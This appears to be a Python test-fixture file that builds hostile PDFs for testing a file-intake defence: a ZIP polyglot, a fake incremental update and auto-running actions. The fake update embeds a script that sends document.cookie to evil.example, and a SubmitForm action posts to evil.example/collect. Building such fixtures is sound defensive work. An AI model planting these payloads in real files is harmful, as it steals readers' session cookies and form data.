"""Hostile files an attacker would try at intake: polyglots, payloads posing as updates, actions."""

import re
from pathlib import Path

import pikepdf
from pikepdf import Dictionary, Name

from tests.pdfs import jpeg_rgb, with_catalog_entry, write, zip_bytes


def zip_polyglot(d: Path) -> Path:
    """A valid PDF whose stream holds a ZIP, the ZIP's comment running over the rest of the file:
    a ZIP reader, searching from the end, opens the same bytes as an archive."""
    archive = zip_bytes()
    with pikepdf.open(jpeg_rgb(d)) as pdf:
        pdf.Root.Payload = pdf.make_stream(archive)
        pdf.save(d / "polyglot.pdf", compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = bytearray((d / "polyglot.pdf").read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 20:end + 22] = (len(data) - end - 22).to_bytes(2, "little")
    return write(d / "polyglot.pdf", bytes(data))


def fake_incremental_update(d: Path) -> Path:
    """A payload after the end-of-file marker, followed by a second marker so it looks like an update."""
    payload = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n" * 12
    return write(d / "fake_update.pdf", jpeg_rgb(d).read_bytes() + payload + b"%%EOF\n")


def real_incremental_update(d: Path) -> Path:
    """A genuine incremental update: a new /Info object, its cross-reference section and trailer."""
    base = jpeg_rgb(d).read_bytes()
    with pikepdf.open(d / "jpeg_rgb.pdf") as pdf:
        size, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    update = f"{size} 0 obj\n<< /Producer (an update) >>\nendobj\n".encode()
    xref_at = len(base) + len(update)
    xref = (f"xref\n{size} 1\n{len(base):010d} 00000 n \ntrailer\n<< /Size {size + 1} /Root {root} 0 R "
            f"/Info {size} 0 R /Prev {previous} >>\nstartxref\n{xref_at}\n%%EOF\n").encode()
    return write(d / "real_update.pdf", base + update + xref)


def action(d: Path, kind: str, **entries) -> Path:
    return with_catalog_entry(d, f"action_{kind}", OpenAction=Dictionary(Type=Name.Action, S=Name(f"/{kind}"),
                                                                         **entries))


def submit_form(d: Path) -> Path:
    return action(d, "SubmitForm", F=pikepdf.String("https://evil.example/collect"))


def import_data(d: Path) -> Path:
    return action(d, "ImportData", F=pikepdf.String("data.fdf"))


def goto_remote(d: Path) -> Path:
    return action(d, "GoToR", F=pikepdf.String("other.pdf"), D=pikepdf.Array([0, Name.Fit]))


def uri_link(d: Path) -> Path:
    return action(d, "URI", URI=pikepdf.String("https://example.org/terms"))
